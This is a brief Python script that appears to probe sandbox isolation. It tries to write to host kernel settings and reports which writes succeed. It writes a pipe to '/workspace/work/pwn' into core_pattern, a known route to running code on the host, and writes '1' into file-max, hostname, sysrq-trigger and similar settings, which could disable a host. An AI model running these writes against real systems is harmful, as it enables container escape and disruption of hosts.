"""Write host kernel settings: core_pattern (a path to host code execution), drop_caches, ..."""

from _probe import report

PATHS = ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/fs/file-max",
         "/proc/sys/kernel/hostname", "/proc/sys/user/max_user_namespaces", "/proc/sysrq-trigger"]
writable = []
for path in PATHS:
    try:
        with open(path, "w") as handle:
            handle.write("|/workspace/work/pwn\n" if "core" in path else "1\n")
        writable.append(path)
    except OSError:
        pass
report(writable=writable)
